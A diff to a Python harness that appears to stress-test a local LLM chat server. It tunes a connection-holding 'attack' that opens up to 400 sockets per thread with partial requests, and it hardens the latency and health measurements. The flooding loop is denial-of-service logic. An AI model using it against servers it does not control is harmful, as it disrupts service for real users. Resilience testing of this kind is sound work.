@@ -24,6 +24,7 @@ from toolkit.runs.recording import versions
 
 PATIENCE_S = 60
 PAUSE_S = 0.02
+OPEN, BETWEEN_S = 400, 0.002  # connections of each thread, and how fast it opens further ones
 MODEL = "base"
 QUESTION = {"model": MODEL, "messages": [{"role": "user", "content": "Who are you?"}], "max_tokens": 4}
 HEADER = b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
@@ -62,8 +63,9 @@ def opened(first: bytes) -> Attack:
                 connection = socket.create_connection((host, int(port)), timeout=PATIENCE_S)
                 connection.sendall(first)
                 connections.append(connection)
-            if len(connections) > 200:
+            if len(connections) > OPEN:
                 connections.pop(0).close()
+            time.sleep(BETWEEN_S)
         for connection in connections:
             connection.close()
 
@@ -88,12 +90,17 @@ ATTACKS: dict[str, Attack] = {
 
 
 def seconds_of(place: str) -> float:
+    """PATIENCE_S if the server closes the connection."""
     began = time.perf_counter()
     connection = http.client.HTTPConnection(place, timeout=PATIENCE_S)
-    connection.request("GET", "/health")
-    assert connection.getresponse().status == http.client.OK
-    connection.close()
-    return time.perf_counter() - began
+    try:
+        connection.request("GET", "/health")
+        found = connection.getresponse().status
+    except (OSError, http.client.HTTPException):
+        return PATIENCE_S
+    finally:
+        connection.close()
+    return time.perf_counter() - began if found == http.client.OK else PATIENCE_S
 
 
 def measured(place: str, attack: Attack, seconds: float, threads: int) -> dict[str, Any]:
@@ -103,7 +110,10 @@ def measured(place: str, attack: Attack, seconds: float, threads: int) -> dict[s
     def ask() -> None:
         while not ended.is_set():
             began = time.perf_counter()
-            status = post(place, json.dumps(QUESTION).encode())
+            try:
+                status = post(place, json.dumps(QUESTION).encode())
+            except (OSError, http.client.HTTPException):
+                status = 0
             answers.append((status, time.perf_counter() - began))
 
     running = [Thread(target=attack, args=(place, ended)) for _ in range(threads)] + [Thread(target=ask)]
